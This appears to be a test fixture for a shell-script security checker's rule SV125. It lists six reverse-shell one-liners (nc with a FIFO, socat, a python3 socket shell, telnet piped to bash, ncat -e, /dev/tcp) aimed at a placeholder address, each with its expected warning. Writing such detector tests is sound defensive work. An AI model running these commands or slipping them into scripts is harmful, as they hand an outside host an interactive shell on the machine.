#!/bin/bash
H=203.0.113.4
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc $H 4444 > /tmp/f # want "SV125: .*a shell is piped into nc"
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:$H:9001 # want "SV125: .*socat"
python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.4",4444));os.dup2(s.fileno(),0);import pty;pty.spawn("/bin/sh")' # want "SV125: .*python3 one-liner"
telnet $H 23 | /bin/bash # want "SV125: .*telnet output is piped into bash"
ncat $H 4444 -e /bin/bash # want "SV125: .*ncat -e"
exec 5<>/dev/tcp/$H/80 # want "SV125: .*exec through /dev/tcp"
